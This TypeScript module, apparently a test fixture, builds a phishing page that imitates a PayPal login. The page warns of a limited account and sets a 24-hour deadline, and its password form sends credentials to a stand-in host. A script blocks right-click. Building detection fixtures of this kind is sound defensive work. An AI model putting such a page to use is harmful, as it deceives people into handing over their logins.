import { htmlDocument } from '../../html.ts';

const styles = `
* { box-sizing: border-box; }
body { margin: 0; min-height: 100vh; display: flex; flex-direction: column; background: #f2f5f9; color: #1c2733; font: 16px/1.5 "Helvetica Neue", Arial, "Liberation Sans", sans-serif; }
main { flex: 1; display: flex; align-items: center; justify-content: center; padding: 40px 20px; }
.card { background: #fff; width: 440px; border-radius: 14px; padding: 44px 46px 40px; box-shadow: 0 2px 6px #10204014, 0 18px 50px #10204014; }
.word { text-align: center; font: italic 800 36px/1 Verdana, "DejaVu Sans", sans-serif; letter-spacing: -.05em; color: #12307a; margin-bottom: 26px; }
.word span { color: #1a8fd6; }
.alert { display: flex; gap: 12px; background: #fff5e0; border: 1px solid #f2c666; border-radius: 9px; padding: 13px 15px; font-size: 14px; margin-bottom: 22px; }
.alert b { display: block; }
label { display: block; font-size: 14px; margin-bottom: 14px; color: #4a5a6a; }
input { display: block; width: 100%; margin-top: 5px; padding: 14px; border: 1px solid #a9b6c2; border-radius: 7px; font: inherit; }
input:focus { outline: 2px solid #1a8fd6; }
.help { color: #0b62c4; font-size: 14px; font-weight: 600; text-decoration: none; }
button { width: 100%; margin-top: 20px; padding: 14px; border: 0; border-radius: 99px; background: #12307a; color: #fff; font: inherit; font-size: 17px; font-weight: 700; cursor: pointer; }
.or { display: flex; align-items: center; gap: 12px; color: #6b7986; font-size: 13px; margin: 20px 0; }
.or::before, .or::after { content: ""; flex: 1; border-top: 1px solid #d8dfe6; }
.second { display: block; text-align: center; border: 2px solid #12307a; color: #12307a; border-radius: 99px; padding: 11px; font-weight: 700; text-decoration: none; }
footer { background: #e7ecf1; color: #5a6874; font-size: 12px; text-align: center; padding: 18px; }
footer a { color: inherit; margin: 0 9px; }
`;

/** Has the signs of a phishing page: a brand's name, a threat, a password form that posts to another host. Text and style are our own. */
export const signinDocument = htmlDocument({
  title: 'PayPal: log in to restore your account',
  head: `<meta name="robots" content="noindex, nofollow">
<link rel="icon" href="/icon.svg" type="image/svg+xml">
<style>${styles}</style>`,
  body: `<main><form class="card" action="https://forms.parcel-drop.example/collect.php" method="post">
<div class="word" role="img" aria-label="PayPal">Pay<span>Pal</span></div>
<div class="alert"><span aria-hidden="true">⚠️</span><span><b>Your account has been limited</b>We noticed unusual activity. Confirm your identity within 24 hours to avoid suspension.</span></div>
<label>Email or mobile number<input name="login_email" type="email" autocomplete="off" required></label>
<label>Password<input name="login_password" type="password" autocomplete="off" required></label>
<a class="help" href="#">Forgot password?</a>
<input type="hidden" name="campaign" value="restore-7">
<button type="submit">Log In</button>
<div class="or">or</div>
<a class="second" href="#">Sign Up</a>
</form></main>
<footer><a href="#">Contact Us</a><a href="#">Privacy</a><a href="#">Legal</a><a href="#">Worldwide</a><br>© 1999–2026 PayPal. All rights reserved.</footer>
<script>document.addEventListener('contextmenu', event => event.preventDefault());</script>`,
});

export const signinIcon = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64"><rect width="64" height="64" rx="32" fill="#12307a"/><path d="M24 48V17h12a10 10 0 0 1 0 20h-6v11z" fill="#fff"/></svg>`;
